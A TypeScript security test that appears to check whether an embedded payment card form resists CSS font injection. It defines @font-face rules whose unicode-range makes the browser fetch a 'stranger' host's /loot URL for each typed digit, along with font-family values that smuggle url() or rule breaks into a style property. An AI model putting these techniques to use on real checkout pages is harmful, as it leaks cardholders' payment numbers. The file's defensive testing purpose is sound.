import {heard, RECORDER, type Attack, type Group} from '../attack.ts';
import {FAMILIES} from './style-values.ts';

// A font of the page's choosing could show other digits than are typed, or fetch a file for each digit that is shown
// and so tell which they are.

/** Values of `--florin-font`, each of which a browser takes for a family. */
const FONTS: Record<string, string> = {
  'a family of the page': 'Stranger',
  'a family in quotes': '"Stranger"',
  'a family before one that is served': 'Stranger, "Brand Sans"',
  'a family with an escape': '\\53 tranger',
  'a family with a quote': '"Brand Sans\\""',
  'a family with a url()': '"url(/loot)"',
  'a family with a rule': '"Brand Sans;src:url(/loot)}"',
  'a served family in other letters': '"brand sans"',
  'a served family with a space': '"Brand Sans "',
  'a served family written backwards': '"\\202esnaS dnarB"',
  'a family named like a prototype': '__proto__',
  'a family named like a constructor': 'constructor',
  'a font of the machine': 'Arial',
  'a kind that is not of the list': 'cursive',
};

const FACES = (away: string): string =>
  ['Stranger', 'Brand Sans', 'brand sans', '__proto__', 'constructor', 'url(/loot)', 'system-ui']
    .flatMap(family =>
      [0, 1, 2, 3, 4, 5, 6, 7, 8, 9].map(
        digit =>
          `@font-face{font-family:"${family}";src:url(${away}?digit=${digit});unicode-range:U+003${digit}}`,
      ),
    )
    .join('');

const REACHED = 'a request for a digit that was typed';

const fonts: Attack = {
  name: 'a font that nobody serves',
  names: [...Object.keys(FONTS), REACHED],
  weak: {
    policy: [["font-src 'self'", 'font-src *']],
    frame: [
      ['grammar.test(value)', 'value !== ""'],
      ['GENERIC.includes(name) || Object.hasOwn(fonts, name)', 'true'],
      ['url("${fonts[family]}")', 'url("/loot?${family}")'],
    ],
  },
  run: async ({tab, processor, session, merchantPage, stranger, requests}) => {
    const {token} = await session();
    const style = `<style>${FACES(`${stranger}/loot`)}</style>`;
    const html = `${RECORDER}${style}<script src="${processor}/sdk/v1/florin.js"></script>
      <florin-card-form session="${token}"></florin-card-form>`;
    await tab.goto(merchantPage(html));
    await heard(tab, 'florin-ready');
    const frame = await tab.frame('/frame?');
    await frame.run(() => {
      document.querySelector('input')!.value = '0123456789';
    });
    const won: string[] = [];
    for (const [name, value] of Object.entries(FONTS)) {
      await tab.run(async (font: string) => {
        document.querySelector('florin-card-form')!.style.setProperty('--florin-font', font);
        await new Promise<void>(resolve => setTimeout(resolve, 120));
      }, value);
      const shown = await frame.run(() => {
        const root = getComputedStyle(document.documentElement);
        const families = [
          root.getPropertyValue('--florin-font').trim(),
          ...[...document.fonts].map(one => one.family),
        ];
        document.fonts.clear();
        return families.map(family => family.replaceAll('"', ''));
      });
      if (shown.some(family => family !== '' && !FAMILIES.includes(family))) won.push(name);
    }
    const loaded = await frame.run(() => performance.getEntriesByType('resource').map(one => one.name));
    const away = requests.some(line => line.startsWith(new URL(stranger).hostname));
    return away || loaded.some(url => url.includes('/loot')) ? [...won, REACHED] : won;
  },
};

export const remoteFonts: Group = {title: 'remote fonts', attacks: [fonts]};
